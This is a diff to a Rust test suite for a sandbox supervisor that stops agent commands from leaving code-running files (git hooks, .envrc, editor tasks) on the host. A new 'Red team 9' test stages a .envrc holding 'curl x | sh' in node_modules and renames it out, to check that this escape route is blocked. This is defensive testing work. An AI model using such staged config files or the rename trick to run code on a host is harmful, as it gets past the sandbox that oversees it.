@@ -944,10 +944,10 @@ fn protect_git_directories_left_anywhere_below_cannot_run_code_on_the_host() {
 }
 
 /// Control: ordinary git use below the workspace (a clone's config, a
-/// bare remote, commits in a nested repository) is left alone, and so are
-/// the `.vscode/` and `.husky/` folders packages publish into
-/// `node_modules` (no package manager runs them; git directories are
-/// checked there too).
+/// bare remote, commits in a nested repository) is left alone, and the
+/// `.vscode/` and `.husky/` folders packages publish into `node_modules`
+/// are moved aside quietly (no package manager runs them), not reported as
+/// a breach.
 #[test]
 fn protect_ordinary_git_use_below_the_workspace_is_left_alone() {
     let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
@@ -960,7 +960,13 @@ fn protect_ordinary_git_use_below_the_workspace_is_left_alone() {
         &o,
         "cloning, committing and pushing between nested repositories, and a package that ships editor folders",
     );
-    assert!(w.ws.join("node_modules/pkg/.vscode/settings.json").exists());
+    // What packages ship is moved aside quietly: no breach, exit 0.
+    assert!(
+        !w.ws.join("node_modules/pkg/.vscode").exists() && stderr(&o).contains("moved aside"),
+        "{}",
+        stderr(&o)
+    );
+    assert!(!stderr(&o).contains("breach"), "{}", stderr(&o));
     let config = read(&w.ws.join("deep/a/b/c/d/.git/config"));
     assert!(config.contains("remotes/r.git"), "{config}");
     assert!(w.ws.join("remotes/r.git/config").exists());
@@ -1109,4 +1115,25 @@ fn protect_the_supervisor_never_runs_a_git_the_command_wrote() {
     );
     // The check still ran, with the host's own git.
     assert!(stderr(&o).contains("core.fsmonitor"), "{}", stderr(&o));
+}
+
+/// Red team 9: agent-config files in `node_modules` were not checked, so a
+/// package folder prepared there in one run could be renamed out in the
+/// next (`mv node_modules/z sub`), carrying a `.envrc` whose own change
+/// time was old. They are moved aside in the run that makes them.
+#[test]
+fn protect_agent_config_staged_in_node_modules_cannot_be_moved_out_later() {
+    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
+    w.git(&w.ws, &["init", "-q"]);
+    let first = sh(
+        &w,
+        "mkdir -p node_modules/z/.vscode && echo 'curl x | sh' > node_modules/z/.envrc && echo '{}' > node_modules/z/.vscode/tasks.json",
+    );
+    control(&first, "installing a package that ships editor files");
+    let o = sh(&w, "mv node_modules/z sub");
+    breached_if(
+        w.ws.join("sub/.envrc").exists() || w.ws.join("sub/.vscode/tasks.json").exists(),
+        "agent-config files staged in node_modules were renamed out to a folder a shell enters",
+        &o,
+    );
 }
